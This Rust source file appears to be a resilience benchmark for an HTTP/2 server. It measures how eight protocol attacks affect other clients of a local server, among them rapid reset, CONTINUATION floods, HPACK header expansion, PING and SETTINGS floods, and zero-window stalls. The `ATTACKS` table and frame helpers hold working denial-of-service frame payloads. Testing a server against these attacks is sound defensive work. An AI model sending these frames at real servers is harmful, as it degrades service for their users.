//! The cost of clients that attack over HTTP/2, for the other clients.

use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, TcpStream};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use rustix::thread::{CpuSet, sched_getaffinity, sched_setaffinity};

use super::arena::{Arena, Scenario};
use super::load::{LoadProcess, begin};
use super::running::RunningServer;
use super::server::App;
use crate::context::BenchContext;
use crate::measure::Series;
use crate::table::{Table, at_least};

/// The rate of the other clients, in requests per second: a part of the capacity of an idle server.
const RATE: u32 = 2_000;
/// The processor of a saturated server, whose requests compute for 5 ms each. An attacker that took its processor time
/// on this machine would not attack over the network.
const SERVERS_PROCESSOR: usize = 1;
/// The processor of the clients and the attacker in that case.
const CLIENTS_PROCESSOR: usize = 0;
/// The maximum number of bytes that an attacker writes at once.
const BATCH_BYTES: usize = 32 << 10;
/// How long an attacker waits for an answer before it checks for the end of the run.
const PATIENCE: Duration = Duration::from_millis(100);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// An attack: its name, and the bytes of the `number`th step on a connection.
type Attack = (&'static str, fn(u32) -> Vec<u8>);

const ATTACKS: [Attack; 8] = [
    ("rapid reset", |number| {
        [get(stream(number)), frame(RESET, 0, stream(number), &8_u32.to_be_bytes())].concat()
    }),
    ("resets that the server is made to send", |number| {
        let window = 0x7fff_ffff_u32.to_be_bytes();
        let open = frame(HEADERS, END_HEADERS, stream(number), &head());
        [open, frame(WINDOW_UPDATE, 0, stream(number), &window)].concat()
    }),
    ("CONTINUATION without an end", |number| match number {
        0 => frame(HEADERS, 0, 1, &head()),
        _ => frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"),
    }),
    ("small heads that become large", |number| {
        let line = [&[0x40, 1, b'a', 120][..], &[b'x'; 120]].concat();
        let many = [head(), line, vec![0x80 | 62; 3_000]].concat();
        frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &many)
    }),
    ("PING", |_| frame(PING, 0, 0, &[0; 8])),
    ("SETTINGS", |_| frame(SETTINGS, 0, 0, &[])),
    ("DATA without data", |number| match number {
        0 => frame(HEADERS, END_HEADERS, 1, &head()),
        _ => frame(DATA, 0, 1, &[]),
    }),
    ("a window that stays shut", |number| match number {
        0 => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
        1..=100 => get(stream(number)),
        _ => Vec::new(),
    }),
];

/// Returns a table of an idle server, and one of a saturated server.
pub(crate) fn run(context: &BenchContext) -> Result<String, String> {
    let arena = Arena::new(context)?;
    let title = format!("HTTP/2: {RATE} requests/s of ten clients beside an attacker, `-w 2 -t 2`");
    let idle = Target { scenario: Scenario::rack("/", &[]), rate: Some(RATE) };
    let idle = table(&arena, &title, idle)?;
    if thread::available_parallelism().map_or(1, usize::from) <= SERVERS_PROCESSOR {
        println!("left out: a full server: it needs a processor of its own");
        return Ok(idle);
    }
    let title =
        "HTTP/2: as much as ten clients get of a full server beside an attacker, `-w 2 -t 2`";
    let scenario = Scenario { app: App::Shapes, ..Scenario::rack("/cpu5", &[]) };
    let full = table(&arena, title, Target { scenario, rate: None })?;
    Ok([idle, full].join("\n\n"))
}

/// The attacked server, and the rate of the other clients. Without a rate, clients send the next request as soon as
/// they have a response.
#[derive(Clone, Copy)]
struct Target {
    scenario: Scenario<'static>,
    rate: Option<u32>,
}

fn table(arena: &Arena<'_>, title: &str, target: Target) -> Result<String, String> {
    let share = if target.rate.is_some() { "answered of those due" } else { "answered ÷ alone" };
    let columns = ["attack", share, "p99 ms", "p99 alone", "connections ended/s"];
    let mut table = Table::new(title, &columns);
    let contender = arena.servers(target.scenario.app).find(|contender| contender.is_ours());
    let contender = contender.ok_or("there is no build of thruway")?;
    let mut least = 1.0_f64;
    for attack in ATTACKS {
        let mut rounds = Vec::new();
        for _ in 0..arena.context.rounds {
            let Some(running) = arena.start(contender, target.scenario)? else { continue };
            rounds.push(round(arena, &running, attack, target)?);
        }
        let median = |number: fn(&Round) -> f64| {
            Series::new(attack.0, rounds.iter().map(number).collect()).median()
        };
        let answered = median(|round| round.answered);
        least = least.min(answered);
        let cells = [
            format!("{:.1} %", answered * 100.0),
            format!("{:.2}", median(|round| round.p99_ms)),
            format!("{:.2}", median(|round| round.p99_alone_ms)),
            format!("{:.0}", median(|round| round.ended)),
        ];
        table.row(attack.0, &cells);
    }
    table
        .target("each costs the others at most 10 % of their requests", at_least(Some(least), 0.9));
    Ok(table.text())
}

/// The figures of the other clients and of the attacker in one round.
struct Round {
    answered: f64,
    p99_ms: f64,
    p99_alone_ms: f64,
    ended: f64,
}

fn round(
    arena: &Arena<'_>,
    running: &RunningServer,
    attack: Attack,
    target: Target,
) -> Result<Round, String> {
    let everywhere = sched_getaffinity(None).map_err(unpinned)?;
    if target.rate.is_none() {
        pin(running)?;
    }
    let alone = others(arena, running, target)?.end()?;
    let (is_over, ended) = (AtomicBool::new(false), AtomicU64::new(0));
    let beside = thread::scope(|scope| {
        scope.spawn(|| {
            while !is_over.load(Ordering::Relaxed) {
                let was_ended = connection(running.port, attack, &is_over).unwrap_or(false);
                ended.fetch_add(u64::from(was_ended), Ordering::Relaxed);
            }
        });
        let report = others(arena, running, target).and_then(LoadProcess::end);
        is_over.store(true, Ordering::Relaxed);
        report
    })?;
    sched_setaffinity(None, &everywhere).map_err(unpinned)?;
    let number = |report: &serde_json::Value, pointer| {
        report.pointer(pointer).and_then(serde_json::Value::as_f64).unwrap_or(0.0)
    };
    let seconds = number(&beside, "/seconds");
    let a_second = |report| number(report, "/total/requests") / number(report, "/seconds");
    let due = target.rate.map_or_else(|| a_second(&alone), f64::from);
    Ok(Round {
        answered: a_second(&beside) / due,
        p99_ms: number(&beside, "/total/latency/p99_ns") / 1e6,
        p99_alone_ms: number(&alone, "/total/latency/p99_ns") / 1e6,
        ended: ended.into_inner() as f64 / seconds,
    })
}

/// Gives the server a processor of its own, and another one to this process and its children.
fn pin(running: &RunningServer) -> Result<(), String> {
    for process in running.processes() {
        let status = Command::new("taskset")
            .args(["--all-tasks", "--pid", "--cpu-list", &SERVERS_PROCESSOR.to_string()])
            .arg(process.to_string())
            .stdout(Stdio::null())
            .status();
        status.map_err(|error| format!("taskset: {error}"))?;
    }
    let mut clients = CpuSet::new();
    clients.set(CLIENTS_PROCESSOR);
    sched_setaffinity(None, &clients).map_err(unpinned)
}

fn unpinned(error: rustix::io::Errno) -> String {
    format!("cannot choose a processor: {error}")
}

/// Starts clients with a fixed rate, or clients that send the next request after each response.
fn others(
    arena: &Arena<'_>,
    running: &RunningServer,
    target: Target,
) -> Result<LoadProcess, String> {
    let seconds = arena.seconds(1.0);
    let rate = target.rate.map(|rate| rate.to_string());
    let mut options = vec!["--http2", "-c", "10", "--streams", "4", "-d", &seconds];
    options.extend(rate.iter().flat_map(|rate| ["--rate", rate]));
    begin(&arena.context.root, running, &[target.scenario.path], &options)
}

/// Attacks on one connection until it ends or the run is over; returns whether the server ended the connection.
fn connection(port: u16, attack: Attack, is_over: &AtomicBool) -> std::io::Result<bool> {
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
    stream.set_read_timeout(Some(Duration::from_millis(1)))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat())?;
    let (mut number, mut buffer) = (0, [0; 16 << 10]);
    while !is_over.load(Ordering::Relaxed) {
        let mut batch = Vec::new();
        while batch.len() < BATCH_BYTES && number < u32::MAX / 4 {
            let part = attack.1(number);
            number += 1;
            if part.is_empty() {
                break;
            }
            batch.extend(part);
        }
        if stream.write_all(&batch).is_err() {
            return Ok(true);
        }
        match stream.read(&mut buffer) {
            Ok(0) => return Ok(true),
            Ok(_) => {}
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(_) => return Ok(true),
        }
    }
    Ok(false)
}

fn stream(number: u32) -> u32 {
    2 * number + 1
}

fn get(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &head())
}

/// The fields of `GET /`: three of the static table, and an authority.
fn head() -> Vec<u8> {
    [&[0x82, 0x86, 0x84, 0x41, 1, b'a'][..]].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
